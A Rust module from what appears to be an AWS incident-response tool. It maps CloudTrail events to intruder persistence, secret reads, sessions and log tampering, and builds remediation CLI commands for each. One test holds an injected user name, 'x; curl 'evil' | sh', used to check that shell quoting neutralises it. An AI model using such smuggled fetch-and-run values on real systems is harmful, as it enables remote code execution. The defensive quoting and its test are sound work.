//! What an event of CloudTrail means for whoever cleans up: by what an intruder stays, which secrets were
//! read, whose sessions go on, and what was done to hide it; each with the command that removes it.

use serde_json::Value;

use crate::provider::Meaning;

/// The parameters of an event, by name.
struct Told<'a>(&'a Value);

impl Told<'_> {
    /// A parameter of the request, or of the answer, as a word of a command.
    fn word(&self, name: &str) -> String {
        let asked = self.0.get("requestParameters").and_then(|all| all.get(name));
        let text = asked.and_then(Value::as_str).unwrap_or_default();
        quoted(text)
    }

    fn answered(&self, pointer: &str) -> String {
        let text = self.0.get("responseElements").and_then(|all| all.pointer(pointer));
        quoted(text.and_then(Value::as_str).unwrap_or_default())
    }
}

/// Names come from an intruder: one that isn't a plain word is put into quotes, so that pasting the command
/// does nothing else.
fn quoted(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-+=,.@/:".contains(c);
    match text {
        "" => "UNKNOWN".to_owned(),
        text if text.chars().all(is_plain) && !text.starts_with('-') => text.to_owned(),
        text => format!("'{}'", text.replace('\'', r"'\''").replace(char::is_control, " ")),
    }
}

/// Returns what an event means. What failed has changed nothing, and counts as nothing but a use.
pub(super) fn of(service: &str, event: &str, failed: bool, told: &Value) -> Meaning {
    if failed {
        return Meaning::Other;
    }
    // Lambda's events carry the version of its API: `CreateFunction20150331`, `…20150331v2`.
    let is_version = |c: char| c.is_ascii_digit() || c == '_';
    let event = event.trim_end_matches(is_version);
    let event = event.strip_suffix('v').unwrap_or(event).trim_end_matches(is_version);
    let told = Told(told);
    persistence(service, event, &told)
        .or_else(|| secret(service, event, &told))
        .or_else(|| session(service, event, &told))
        .or_else(|| hiding(service, event, &told))
        .unwrap_or(Meaning::Other)
}

fn persistence(service: &str, event: &str, told: &Told<'_>) -> Option<Meaning> {
    let (what, remove) = match service {
        "iam" => iam(event, told)?,
        "lambda" => lambda(event, told)?,
        "ec2" => ec2(event, told)?,
        "s3" if event == "PutBucketPolicy" => {
            let bucket = told.word("bucketName");
            (
                format!("the policy of bucket {bucket}"),
                format!("look at it, then: aws s3api delete-bucket-policy --bucket {bucket}"),
            )
        }
        "sts" if event == "GetFederationToken" => (
            "a federated session, which lives up to 36 hours".to_owned(),
            "end the user's sessions (deny what was issued before now)".to_owned(),
        ),
        _ => return None,
    };
    let (reversible, hits) = price(event);
    Some(Meaning::Persistence { what, remove, reversible, hits: hits.to_owned() })
}

/// Returns whether removing what an event made can be taken back, and whom it may hit.
fn price(event: &str) -> (bool, &'static str) {
    match event {
        "CreateAccessKey" | "UpdateAccessKey" => (true, "whoever works with that key"),
        "CreateLoginProfile" | "UpdateLoginProfile" => {
            (false, "the person who signs in with that password, if there was one before")
        }
        "CreateUser" | "CreateRole" | "CreateFunction" => {
            (false, "nobody, if the intruder alone used it: look at when it was made")
        }
        "UpdateAssumeRolePolicy" | "PutRolePolicy" | "AttachRolePolicy" => {
            (true, "everyone who works as that role")
        }
        "PutGroupPolicy" | "AttachGroupPolicy" => (true, "every user of that group"),
        "CreatePolicyVersion" | "SetDefaultPolicyVersion" => {
            (true, "everyone the policy is attached to")
        }
        "PutUserPolicy" | "AttachUserPolicy" | "AddUserToGroup" => (true, "every key of that user"),
        "DeleteUserPolicy"
        | "DetachUserPolicy"
        | "DeleteUserPermissionsBoundary"
        | "PutUserPermissionsBoundary" => (true, "every key of that user"),
        "PutBucketPolicy" => (true, "everyone who reads or writes that bucket"),
        "CreateSAMLProvider" | "UpdateSAMLProvider" | "CreateOpenIDConnectProvider" => {
            (false, "everyone who signs in that way")
        }
        "GetFederationToken" => (true, "whoever works in a session of that user"),
        "UpdateFunctionCode" | "UpdateFunctionConfiguration" => {
            (true, "whoever calls the function")
        }
        "AddPermission" | "CreateFunctionUrlConfig" | "CreateEventSourceMapping" => {
            (false, "whoever calls the function that way")
        }
        "RunInstances" => (false, "whatever runs on the machine"),
        "AuthorizeSecurityGroupIngress" => (true, "whoever reaches the machines that way"),
        _ => (false, "whoever uses it"),
    }
}

fn iam(event: &str, told: &Told<'_>) -> Option<(String, String)> {
    let user = || told.word("userName");
    let role = || told.word("roleName");
    let policy = || told.word("policyName");
    let arn = || told.word("policyArn");
    Some(match event {
        "CreateUser" => (
            format!("user {}", user()),
            format!("remove its keys, password and policies, then: aws iam delete-user --user-name {}", user()),
        ),
        "CreateAccessKey" => {
            let key = told.answered("/accessKey/accessKeyId");
            // Without a name, AWS takes the caller's own.
            let of = match user().as_str() {
                "UNKNOWN" => told.answered("/accessKey/userName"),
                name => name.to_owned(),
            };
            (
                format!("access key {key} of {of}"),
                format!("aws iam update-access-key --status Inactive --access-key-id {key} --user-name {of}; later: aws iam delete-access-key --access-key-id {key} --user-name {of}"),
            )
        }
        "UpdateAccessKey" => {
            let key = told.word("accessKeyId");
            (
                format!("the state of access key {key} of {}", user()),
                format!("aws iam update-access-key --status Inactive --access-key-id {key} --user-name {}", user()),
            )
        }
        "CreateLoginProfile" | "UpdateLoginProfile" => (
            format!("the console password of {}", user()),
            format!("aws iam delete-login-profile --user-name {}", user()),
        ),
        "CreateServiceSpecificCredential" | "ResetServiceSpecificCredential" => {
            let id = told.answered("/serviceSpecificCredential/serviceSpecificCredentialId");
            (
                format!("a key of {} for {}", user(), told.word("serviceName")),
                format!("aws iam list-service-specific-credentials --user-name {0}, then: aws iam delete-service-specific-credential --user-name {0} --service-specific-credential-id {id}", user()),
            )
        }
        "UploadSSHPublicKey" => {
            let id = told.answered("/sSHPublicKey/sSHPublicKeyId");
            (
                format!("an SSH key of {}", user()),
                format!("aws iam list-ssh-public-keys --user-name {0}, then: aws iam delete-ssh-public-key --user-name {0} --ssh-public-key-id {id}", user()),
            )
        }
        "UploadSigningCertificate" => (
            format!("a signing certificate of {}", user()),
            format!("aws iam list-signing-certificates --user-name {0}, then: aws iam delete-signing-certificate --user-name {0} --certificate-id ID", user()),
        ),
        "CreateVirtualMFADevice" | "EnableMFADevice" | "DeactivateMFADevice" | "DeleteVirtualMFADevice" => (
            format!("the second factor of {}", user()),
            format!("aws iam list-mfa-devices --user-name {}", user()),
        ),
        "CreateRole" => (
            format!("role {}", role()),
            format!("detach and delete its policies, then: aws iam delete-role --role-name {}", role()),
        ),
        "UpdateAssumeRolePolicy" => (
            format!("who may take on role {}", role()),
            format!("aws iam get-role --role-name {0}, then put back what was there: aws iam update-assume-role-policy --role-name {0} --policy-document FILE", role()),
        ),
        "PutUserPolicy" => (
            format!("policy {} of user {}", policy(), user()),
            format!("aws iam delete-user-policy --user-name {} --policy-name {}", user(), policy()),
        ),
        "PutRolePolicy" => (
            format!("policy {} of role {}", policy(), role()),
            format!("aws iam delete-role-policy --role-name {} --policy-name {}", role(), policy()),
        ),
        "PutGroupPolicy" => {
            let group = told.word("groupName");
            (
                format!("policy {} of group {group}", policy()),
                format!("aws iam delete-group-policy --group-name {group} --policy-name {}", policy()),
            )
        }
        "AttachUserPolicy" => (
            format!("policy {} on user {}", arn(), user()),
            format!("aws iam detach-user-policy --user-name {} --policy-arn {}", user(), arn()),
        ),
        "AttachRolePolicy" => (
            format!("policy {} on role {}", arn(), role()),
            format!("aws iam detach-role-policy --role-name {} --policy-arn {}", role(), arn()),
        ),
        "AttachGroupPolicy" => {
            let group = told.word("groupName");
            (
                format!("policy {} on group {group}", arn()),
                format!("aws iam detach-group-policy --group-name {group} --policy-arn {}", arn()),
            )
        }
        "AddUserToGroup" => {
            let group = told.word("groupName");
            (
                format!("user {} in group {group}", user()),
                format!("aws iam remove-user-from-group --user-name {} --group-name {group}", user()),
            )
        }
        "CreatePolicyVersion" | "SetDefaultPolicyVersion" => (
            format!("the text of policy {}", arn()),
            format!("aws iam list-policy-versions --policy-arn {0}, then: aws iam set-default-policy-version --policy-arn {0} --version-id OLD", arn()),
        ),
        "DeleteUserPermissionsBoundary" | "PutUserPermissionsBoundary" => (
            format!("the permissions boundary of user {}", user()),
            format!("aws iam put-user-permissions-boundary --user-name {} --permissions-boundary OLD", user()),
        ),
        "DeleteUserPolicy" | "DetachUserPolicy" => (
            format!("a policy taken off user {}", user()),
            "put it back, if it denied something".to_owned(),
        ),
        "CreateSAMLProvider" | "UpdateSAMLProvider" => (
            "who may sign in by SAML".to_owned(),
            "aws iam list-saml-providers, then: aws iam delete-saml-provider --saml-provider-arn ARN".to_owned(),
        ),
        "CreateOpenIDConnectProvider" => (
            format!("sign-in by {}", told.word("url")),
            "aws iam list-open-id-connect-providers, then: aws iam delete-open-id-connect-provider --open-id-connect-provider-arn ARN".to_owned(),
        ),
        _ => return None,
    })
}

fn lambda(event: &str, told: &Told<'_>) -> Option<(String, String)> {
    let function = told.word("functionName");
    Some(match event {
        "CreateFunction" => (
            format!("function {function}"),
            format!("aws lambda delete-function --function-name {function}"),
        ),
        "UpdateFunctionCode" | "UpdateFunctionConfiguration" => (
            format!("the code of function {function}"),
            format!("deploy {function} again from its own source"),
        ),
        "AddPermission" | "CreateFunctionUrlConfig" => (
            format!("who may call function {function}"),
            format!(
                "aws lambda get-policy --function-name {function}, then: aws lambda remove-permission --function-name {function} --statement-id {}",
                told.word("statementId")
            ),
        ),
        "CreateEventSourceMapping" => (
            format!("what calls function {function}"),
            format!(
                "aws lambda list-event-source-mappings --function-name {function}, then: aws lambda delete-event-source-mapping --uuid ID"
            ),
        ),
        _ => return None,
    })
}

fn ec2(event: &str, told: &Told<'_>) -> Option<(String, String)> {
    let id = told.answered("/instancesSet/items/0/instanceId");
    Some(match event {
        "RunInstances" => (
            format!("machine {id} and those started with it"),
            format!(
                "aws ec2 stop-instances --instance-ids {id}, look at its disks, then: aws ec2 terminate-instances --instance-ids {id}"
            ),
        ),
        "CreateKeyPair" | "ImportKeyPair" => {
            let name = told.word("keyName");
            (format!("key pair {name}"), format!("aws ec2 delete-key-pair --key-name {name}"))
        }
        "AuthorizeSecurityGroupIngress" => {
            let group = told.word("groupId");
            (
                format!("who may reach the machines of {group}"),
                format!(
                    "aws ec2 describe-security-groups --group-ids {group}, then: aws ec2 revoke-security-group-ingress --group-id {group}"
                ),
            )
        }
        _ => return None,
    })
}

fn secret(service: &str, event: &str, told: &Told<'_>) -> Option<Meaning> {
    let what = match (service, event) {
        ("secretsmanager", "GetSecretValue") => format!("secret {}", told.word("secretId")),
        ("secretsmanager", "BatchGetSecretValue") => "several secrets".to_owned(),
        ("ssm", "GetParameter" | "GetParameterHistory") => {
            format!("parameter {}", told.word("name"))
        }
        ("ssm", "GetParameters") => "several parameters".to_owned(),
        ("ssm", "GetParametersByPath") => format!("the parameters under {}", told.word("path")),
        ("kms", "Decrypt") => "something that was encrypted with KMS".to_owned(),
        ("ec2", "GetPasswordData") => {
            format!("the administrator's password of machine {}", told.word("instanceId"))
        }
        ("ecr", "GetAuthorizationToken") => "a login to the container registry".to_owned(),
        _ => return None,
    };
    Some(Meaning::SecretRead { what })
}

fn session(service: &str, event: &str, told: &Told<'_>) -> Option<Meaning> {
    let of = match (service, event) {
        ("sts", "AssumeRole" | "AssumeRoleWithSAML" | "AssumeRoleWithWebIdentity") => {
            told.word("roleArn")
        }
        ("sts", "GetSessionToken") => "the user itself".to_owned(),
        ("signin", "GetSigninToken" | "ConsoleLogin") => "the console".to_owned(),
        _ => return None,
    };
    Some(Meaning::Session { of })
}

fn hiding(service: &str, event: &str, told: &Told<'_>) -> Option<Meaning> {
    let by_hand = || "look at it in the console and put it back".to_owned();
    let (what, restore) = match (service, event) {
        ("cloudtrail", "StopLogging") => {
            let name = told.word("name");
            (format!("stopped trail {name}"), format!("aws cloudtrail start-logging --name {name}"))
        }
        ("cloudtrail", "DeleteTrail") => {
            let name = told.word("name");
            (format!("deleted trail {name}"), format!("make trail {name} anew as it was"))
        }
        ("cloudtrail", "UpdateTrail") => {
            let name = told.word("name");
            let look =
                format!("aws cloudtrail get-trail --name {name}, then put back what was there");
            (format!("changed trail {name}"), look)
        }
        ("cloudtrail", "PutEventSelectors") => {
            let name = told.word("trailName");
            let look = format!(
                "aws cloudtrail get-event-selectors --trail-name {name}, then put back what was there"
            );
            (format!("changed what trail {name} writes"), look)
        }
        ("guardduty", "DeleteDetector" | "UpdateDetector" | "CreateFilter") => {
            ("changed GuardDuty".to_owned(), by_hand())
        }
        ("config", "StopConfigurationRecorder" | "DeleteConfigurationRecorder") => {
            ("stopped AWS Config".to_owned(), by_hand())
        }
        ("logs", "DeleteLogGroup" | "DeleteLogStream") => {
            let group = told.word("logGroupName");
            (format!("deleted logs of {group}"), "nothing brings them back".to_owned())
        }
        ("ec2", "DeleteFlowLogs") => ("deleted network flow logs".to_owned(), by_hand()),
        _ => return None,
    };
    Some(Meaning::Hiding { what, restore })
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn meaning(service: &str, event: &str, params: Value) -> Meaning {
        of(service, event, false, &json!({ "requestParameters": params }))
    }

    #[test]
    fn what_was_made_comes_with_its_removal() {
        let told = json!({
            "requestParameters": { "userName": "eve" },
            "responseElements": { "accessKey": { "accessKeyId": "AKIAX" } },
        });
        let Meaning::Persistence { what, remove, .. } = of("iam", "CreateAccessKey", false, &told)
        else {
            panic!("it stays");
        };
        assert_eq!(what, "access key AKIAX of eve");
        assert!(remove.contains("--access-key-id AKIAX --user-name eve"), "{remove}");
        assert_eq!(of("iam", "CreateAccessKey", true, &told), Meaning::Other, "it failed");
    }

    #[test]
    fn a_name_of_an_intruders_is_no_command() {
        let params = json!({ "userName": "x; curl 'evil' | sh\n" });
        let Meaning::Persistence { remove, .. } = meaning("iam", "CreateUser", params) else {
            panic!("it stays");
        };
        assert!(remove.ends_with(r"--user-name 'x; curl '\''evil'\'' | sh '"), "{remove}");
    }

    #[test]
    fn a_version_in_a_name_is_left_out() {
        let params = json!({ "functionName": "cron" });
        for event in ["CreateFunction20150331", "CreateFunction"] {
            let meaning = meaning("lambda", event, params.clone());
            assert!(matches!(meaning, Meaning::Persistence { .. }), "{event}");
        }
        let meaning = meaning("lambda", "UpdateFunctionCode20150331v2", params);
        assert!(matches!(meaning, Meaning::Persistence { .. }));
    }

    #[test]
    fn each_kind_is_told() {
        let role = json!({ "roleArn": "arn:aws:iam::1:role/web" });
        let of = "arn:aws:iam::1:role/web".to_owned();
        assert_eq!(meaning("sts", "AssumeRole", role), Meaning::Session { of });
        let secret = meaning("secretsmanager", "GetSecretValue", json!({ "secretId": "db" }));
        assert_eq!(secret, Meaning::SecretRead { what: "secret db".to_owned() });
        let hiding = meaning("cloudtrail", "StopLogging", json!({ "name": "main" }));
        let Meaning::Hiding { what, restore } = hiding else { panic!("it hides") };
        assert_eq!(what, "stopped trail main");
        assert_eq!(restore, "aws cloudtrail start-logging --name main");
        assert_eq!(meaning("iam", "ListUsers", json!({})), Meaning::Other);
    }
}
